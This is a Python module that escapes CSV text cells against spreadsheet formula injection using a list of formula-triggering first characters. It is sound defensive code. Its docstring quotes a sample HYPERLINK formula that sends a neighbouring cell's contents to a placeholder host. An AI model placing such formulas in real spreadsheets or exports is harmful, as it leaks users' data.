"""Text cells a spreadsheet will not run: CSV formula injection neutralised in one place.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://x/?"&A1, "click")`` sends a
neighbouring cell away); such a *text* cell is written with a leading ``'``, which spreadsheets
read as "this is text" and do not show. Numbers are never passed through here: a negative cost
stays a number. Used by the chargeback CSV (Python) and the FOCUS CSV (an engine expression).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet evaluate a cell (OWASP's list)."""


def safe_cell(text: str) -> str:
    """``text`` as a cell no spreadsheet runs as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_cell_expression(value: Any) -> Any:
    """The same for a text column of an Ibis table (null stays null), on any engine."""
    import ibis

    starts = value.substr(0, 1).isin(list(FORMULA_STARTS))
    return ibis.cases((starts.fill_null(False), "'" + value), else_=value)
